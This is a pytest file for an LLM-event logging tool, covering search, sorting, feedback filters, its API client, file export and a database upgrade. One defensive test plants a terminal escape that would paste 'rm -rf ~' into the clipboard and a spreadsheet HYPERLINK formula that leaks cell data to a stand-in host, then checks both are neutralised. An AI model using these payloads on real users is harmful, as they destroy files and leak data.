"""The events list's new filters and sorts through a real server, ``llmtap.Api`` against it,
``llmtap export`` read back, and the m002 upgrade deriving from events already stored."""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest

import llmtap
from llmtap.store import event_row, open_store
from llmtap.store._common import EVENT_COLUMNS
from llmtap.store._migrations import SQLITE_MIGRATIONS, migrate_sqlite
from llmtap.wire import Event

from ._stores import STORE_BACKENDS
from .conftest import LLMTAP, Project, server_on_each_backend
from .test_server import T0, event, post_events

# Every test here runs on a server of each store backend.
server = pytest.fixture(scope="module", params=STORE_BACKENDS, name="server")(
    server_on_each_backend
)


def feed(project: Project) -> list[dict[str, Any]]:
    events = [
        event(
            latency_ms=[300.0, None, 50.0, 300.0, 1200.0, 7.5, 90.0][i],
            usage={"input_tokens": 10 * (i + 1), "output_tokens": 5},
            model="gpt-4o-mini" if i % 3 else "acme-unpriced",
            request={"messages": [{"role": "user", "content": f"question {i} about shipping"}]},
            output_text=["the parcel ships today", "refund approved", "Ünïcode Café"][i % 3],
            feedback_key=f"fk-{project.key[-6:]}-{i}",
            attributes={"team": "red" if i % 2 else "blue"},
        )
        for i in range(7)
    ]
    assert post_events(project, events).json()["stored"] == 7
    return events


def test_text_search(project: Project) -> None:
    sent = feed(project)
    ids = lambda **p: {e["id"] for e in project.events(**p)}  # noqa: E731
    assert ids(q="refund") == {e["id"] for e in sent if "refund" in e["output_text"]}
    assert ids(q="question 4") == {sent[4]["id"]}
    assert ids(q="cafe") == {e["id"] for e in sent if "Café" in e["output_text"]}
    assert ids(q="refund", **{"attributes.team": "red"}) == {
        e["id"] for e in sent if "refund" in e["output_text"] and e["attributes"]["team"] == "red"
    }
    assert ids(q='"OR" NEAR(') == set()  # FTS syntax in q is just words


@pytest.mark.parametrize(
    "sort", ["latency_ms", "-latency_ms", "cost_usd", "-cost_usd", "started_at"]
)
def test_sorting_with_pagination(project: Project, sort: str) -> None:
    sent = feed(project)
    seen: list[dict[str, Any]] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"sort": sort, "limit": 2}
        if cursor:
            params["cursor"] = cursor
        body = project.server.get("/api/v1/events", project.key, **params).json()
        seen += body["events"]
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert sorted(e["id"] for e in seen) == sorted(e["id"] for e in sent)
    field = sort.lstrip("-")
    keys = [e[field] if e[field] is not None else -1 for e in seen]
    if field == "started_at":
        keys = [e["started_at"] for e in seen]
    assert keys == sorted(keys, reverse=sort.startswith("-"))
    # A cursor of one sort is refused by another.
    if sort != "-latency_ms":
        body = project.server.get("/api/v1/events", project.key, sort=sort, limit=2).json()
        bad = project.server.get(
            "/api/v1/events", project.key, sort="-latency_ms", cursor=body["next_cursor"]
        )
        assert bad.status_code == 400


def test_feedback_filters(project: Project) -> None:
    sent = feed(project)
    for i, rating in [(0, 0.2), (1, 0.9), (1, 0.1)]:
        project.server.post(
            "/api/v1/feedback",
            project.key,
            json={"feedback_key": sent[i]["feedback_key"], "rating": rating},
        )
    ids = lambda **p: {e["id"] for e in project.events(**p)}  # noqa: E731
    assert ids(has_feedback="true") == {sent[0]["id"], sent[1]["id"]}
    assert len(ids(has_feedback="false")) == 5
    assert ids(rating_min="0.8") == {sent[1]["id"]}
    assert ids(rating_max="0.15") == {sent[1]["id"]}
    assert ids(rating_min="0.15", rating_max="0.5") == {sent[0]["id"]}
    response = project.server.get("/api/v1/events", project.key, rating_min="2")
    assert response.status_code == 400


def test_api_client(project: Project) -> None:
    sent = feed(project)
    with llmtap.Api(project.server.url, project.key) as api:
        pages = api.events(page_size=3, model="gpt-4o-mini")
        first = next(iter(pages))
        assert first["model"] == "gpt-4o-mini"
        assert len(list(pages.pages())) == 2  # 4 events, 3 a page
        assert {e["id"] for e in api.events(attributes={"team": "red"})} == {
            e["id"] for e in sent if e["attributes"]["team"] == "red"
        }
        assert api.event(sent[2]["id"])["id"] == sent[2]["id"]
        assert api.event(sent[2]["id"])["feedback"] == []
        table = api.stats(group_by=["model"], from_=T0)
        assert {g["key"]["model"]: g["count"] for g in table} == {
            "gpt-4o-mini": 4,
            "acme-unpriced": 3,
        }
        rows = table.rows()
        assert {"model", "count", "latency_p50_ms", "ttft_p95_ms"} <= set(rows[0])
        assert [r["name"] for r in api.templates().rows()]
        assert api.prices()["unpriced_models"] == [{"model": "acme-unpriced", "events": 3}]
        with pytest.raises(llmtap.api.ApiError) as err:
            api.event("nope")
        assert err.value.status == 404
        rows = api.events().rows()
        assert len(rows) == 7 and rows[0]["attributes"].startswith("{")
        frame = api.events().to_pandas()
    assert len(frame) == 7 and set(frame["id"]) == {r["id"] for r in rows}


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export(project: Project, tmp_path: Path, fmt: str) -> None:
    sent = feed(project)
    out = tmp_path / f"events.{fmt}"
    result = subprocess.run(
        [
            *LLMTAP,
            "export",
            "--format",
            fmt,
            "-o",
            str(out),
            "--url",
            project.server.url,
            "--api-key",
            project.key,
            "--attribute",
            "team=blue",
        ],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    want = {e["id"] for e in sent if e["attributes"]["team"] == "blue"}
    if fmt == "jsonl":
        rows = [json.loads(line) for line in out.read_text().splitlines()]
    elif fmt == "csv":
        with out.open() as f:
            rows = list(csv.DictReader(f))
    else:
        import pyarrow.parquet as pq  # the parquet extra, in dev: runs in CI

        rows = pq.read_table(out).to_pylist()
    assert {r["id"] for r in rows} == want
    by_id = {r["id"]: r for r in rows}
    one = next(e for e in sent if e["id"] in want)
    text = by_id[one["id"]]["output_text"]
    assert text == one["output_text"]
    if fmt == "parquet":
        assert by_id[one["id"]]["input_tokens"] == one["usage"]["input_tokens"]
    assert out.stat().st_mode & 0o777 == 0o600  # prompts and answers: the owner's alone


def test_exported_csv_and_printed_tables_hold_no_formula_and_no_escape(
    project: Project, tmp_path: Path
) -> None:
    """What an event says reaches a spreadsheet and a terminal as text: a CSV cell that would
    start a formula starts with a quote, a control character in a table is shown as ?."""
    sent = event(
        model="gpt-4o\x1b]52;c;cm0gLXJmIH4=\x07",
        output_text='=HYPERLINK("https://x.example/?"&A2,"open")',
        attributes={"team": "red"},
        error={"type": "x", "message": "before\x00after"},
    )
    assert post_events(project, [sent]).status_code == 200
    out = tmp_path / "events.csv"
    base = ["--url", project.server.url, "--api-key", project.key]
    exported = subprocess.run(
        [*LLMTAP, "export", "--format", "csv", "-o", str(out), *base, "--attribute", "team=red"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    with out.open() as f:
        (row,) = list(csv.DictReader(f))
    assert row["output_text"] == "'" + sent["output_text"]
    # A NUL, where most CSV readers end a cell, is shown as U+FFFD.
    # A NUL, where most CSV readers end a cell, is shown as U+FFFD.
    assert "\x00" not in out.read_text() and row["error_message"] == "before\ufffdafter"
    listed = subprocess.run(
        [*LLMTAP, "events", *base, "--attribute", "team=red"], capture_output=True, text=True
    )
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout and "gpt-4o?]52;c;" in listed.stdout


def test_stats_cli(project: Project) -> None:
    feed(project)
    base = [*LLMTAP, "stats", "--url", project.server.url, "--api-key", project.key]
    out = subprocess.run([*base, "--group-by", "model"], capture_output=True, text=True, check=True)
    assert "acme-unpriced" in out.stdout and "unpriced" in out.stdout
    out = subprocess.run(
        [*base, "--group-by", "attributes.team", "--json"],
        capture_output=True,
        text=True,
        check=True,
    )
    answer = json.loads(out.stdout)
    assert {g["key"]["attributes.team"]: g["count"] for g in answer["groups"]} == {
        "red": 3,
        "blue": 4,
    }


def test_upgrade_derives_from_stored_events(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    conn = sqlite3.connect(db, isolation_level=None)
    migrate_sqlite(conn, SQLITE_MIGRATIONS[:1])
    conn.execute("INSERT INTO projects (name, created_at) VALUES ('old', '2026-01-01')")
    for i in range(3):
        e = Event.model_validate(
            event(
                latency_ms=100.0 * (i + 1),
                attributes={"k": i % 2},
                output_text=f"word{i}",
                template_text="hi",
            )
        )
        # The first schema's columns: those later steps add are left out.
        first = {row[1] for row in conn.execute("PRAGMA table_info(events)")}
        row = dict(zip(EVENT_COLUMNS, event_row(e, 1, "prod", "rev1", None, 0), strict=True))
        row = {k: v for k, v in row.items() if k in first}
        conn.execute(
            f"INSERT INTO events ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})",
            list(row.values()),
        )
    conn.close()
    store = open_store(str(db))
    try:
        assert store.applied_migrations == [name for name, _ in SQLITE_MIGRATIONS[1:]]
        from llmtap.store import EventFilter

        answer = store.stats(1, EventFilter(), ["attributes.k"])
        assert answer["source"] == "aggregates"
        assert {g["key"]["attributes.k"]: g["count"] for g in answer["groups"]} == {"0": 2, "1": 1}
        events, _ = store.list_events(1, EventFilter(q="word1"))
        assert len(events) == 1
    finally:
        store.close()


def test_an_object_attribute_s_members_filter_and_group(project: Project) -> None:
    """``monitor_attributes={"params": {"audience": ...}}`` (seed 003's Example 3, grouped
    "by different parameters"): each member is a key of its own, ``params.audience``, for
    filters and group-by. An attribute named so itself wins; the whole object stays one."""
    events = [
        event(attributes={"params": {"equation": eq, "audience": who, "n": {"deep": i}}})
        for i, (eq, who) in enumerate(
            [("x^2", "new student"), ("x^2", "math genius"), ("15 * 4", "math genius")]
        )
    ]
    events.append(event(attributes={"params": {"audience": "hidden"}, "params.audience": "top"}))
    assert post_events(project, events).json()["stored"] == 4
    api = project.server

    def listed(**filters: str) -> int:
        return len(project.events(**filters))

    assert listed(**{"attributes.params.audience": "math genius"}) == 2
    assert listed(**{"attributes.params.n.deep": "2"}) == 1
    assert listed(**{"attributes.params.audience": "top"}) == 1
    assert listed(**{"attributes.params.audience": "hidden"}) == 0
    whole = json.dumps(events[0]["attributes"]["params"], separators=(",", ":"))
    assert listed(**{"attributes.params": whole}) == 1
    stats = api.get("/api/v1/stats", project.key, group_by="attributes.params.audience").json()
    counts = {g["key"]["attributes.params.audience"]: g["count"] for g in stats["groups"]}
    assert counts == {"new student": 1, "math genius": 2, "top": 1}
